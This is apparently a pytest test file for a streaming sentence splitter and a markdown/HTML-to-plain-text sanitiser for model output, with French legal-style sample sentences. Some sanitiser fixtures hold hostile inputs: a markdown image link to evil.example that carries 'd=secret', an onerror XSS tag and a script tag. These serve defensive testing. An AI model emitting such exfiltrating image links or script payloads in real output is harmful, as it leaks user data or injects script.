"""Writing cut into sentences as they end, however it is cut into pieces, and made plain."""

from __future__ import annotations

import pytest

from answer.writing.nonsense import ENDLESS, LOOPS, UNREADABLE, nonsense_in
from answer.writing.sentence_stream import SentenceStream, plain


def sentences(text: str, size: int) -> list[str]:
    stream = SentenceStream()
    pieces = [text[start : start + size] for start in range(0, len(text), size)]
    return [sentence for piece in pieces for sentence in stream.add(piece)] + stream.finish()


@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Le délai est de 4 h [1]. La pénalité est de 150 € [2].",
         ["Le délai est de 4 h [1].", "La pénalité est de 150 € [2]."]),
        ("Le délai est de 4 h. [1] La pénalité est de 150 €. [2][3]",
         ["Le délai est de 4 h. [1]", "La pénalité est de 150 €. [2][3]"]),
        ("Le délai est de 4 h.[1] La pénalité suit.[2, 3]\nFin.",
         ["Le délai est de 4 h. [1]", "La pénalité suit. [2, 3]", "Fin."]),
        ("Selon l’art. 5 et le n° 3, le taux est de 99.9 % par an [1]. M. Durand signe [2].",
         ["Selon l’art. 5 et le n° 3, le taux est de 99.9 % par an [1].", "M. Durand signe [2]."]),
        ("- GTI : 2 h [1]\n- GTR : 4 h [2]\n* VSR ; 30 jours [3]",
         ["GTI : 2 h [1]", "GTR : 4 h [2]", "VSR ; 30 jours [3]"]),
        ("1. Une pénalité de 5 %. [1]\n2. Un plafond. [2]", ["Une pénalité de 5 %. [1]", "Un plafond. [2]"]),
        ("Les délais sont :\n- 2 h [1]\n- 4 h [2]", ["Les délais sont : 2 h [1]", "4 h [2]"]),
        ("## Délais\n\n**Réponse :**\nQuatre heures [1].", ["Quatre heures [1]."]),
        ("<think>Hmm. Vingt ?\n</think>\n\nQuatre heures [1].", ["Quatre heures [1]."]),
        ("Is it 4 h? Yes. [1]", ["Is it 4 h?", "Yes. [1]"]),
        ("---\n***\n", []),
    ],
)  # fmt: skip
def test_sentences_are_the_same_whatever_the_pieces(text: str, expected: list[str], size: int) -> None:
    assert sentences(text, size) == expected


def test_a_sentence_ends_when_the_next_one_begins() -> None:
    stream = SentenceStream()

    assert stream.add("Le délai est de 4 h.") == []
    assert stream.add(" [") == []
    assert stream.add("1] ") == []
    assert stream.unfinished == "Le délai est de 4 h. [1]"
    assert stream.add("La") == ["Le délai est de 4 h. [1]"]
    assert stream.unfinished == "La"


def test_what_a_model_thinks_is_not_shown() -> None:
    stream = SentenceStream()
    for piece in ("<thi", "nk>", "Voyons. Peut-être. ", "Oui."):
        assert stream.add(piece) == []
        assert stream.unfinished == ""
    assert stream.add("</think>Quatre") == []
    assert stream.unfinished == "Quatre"


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("Voir [le site](https://evil.example/?q=x) [1].", "Voir le site [1]."),
        ("![suivi](https://evil.example/p.png?d=secret) Fait [2].", "suivi Fait [2]."),
        ("Fait [[1]](https://evil.example).", "Fait [[1]](https://evil.example)."),
        ("Fait [1](https://evil.example).", "Fait [1]."),
        ("<img src=x onerror=alert(1)>Fait <b>gras</b><!-- caché --> [1].", "Fait gras [1]."),
        ("<script>alert(1)</script>", "alert(1)"),
        ("**Délai** : `4 h`, *au plus*, __deux__ fois", "Délai : 4 h, au plus, deux fois"),
        ("a < b, <4 h, 3 * 4 = 12, nom_de_champ", "a < b, <4 h, 3 * 4 = 12, nom_de_champ"),
        ("- Une puce", "Une puce"),
    ],
)
def test_markdown_and_html_become_plain_words(written: str, read: str) -> None:
    assert plain(written) == read


@pytest.mark.parametrize(
    ("sentence", "before", "reason"),
    [
        ("Le délai est de 4 h.", [], ""),
        ("Le délai est de 4 h.", ["Le délai est de 4 h."] * 2, ""),
        ("Le délai est de 4 h.", ["Le délai est de 4 h."] * 3, LOOPS),
        ("le titulaire " * 20, [], LOOPS),
        ("🌍" * 60, [], UNREADABLE),
        ("合同规定的罚款金额为每天一百五十欧元" * 3, [], UNREADABLE),
        (" ".join(str(n) for n in range(600)), [], ENDLESS),
        ("2 h " * 10, [], ""),
    ],
)
def test_loops_and_signs_that_nobody_reads_are_nonsense(sentence: str, before: list[str], reason: str) -> None:
    assert nonsense_in(sentence, before) == reason
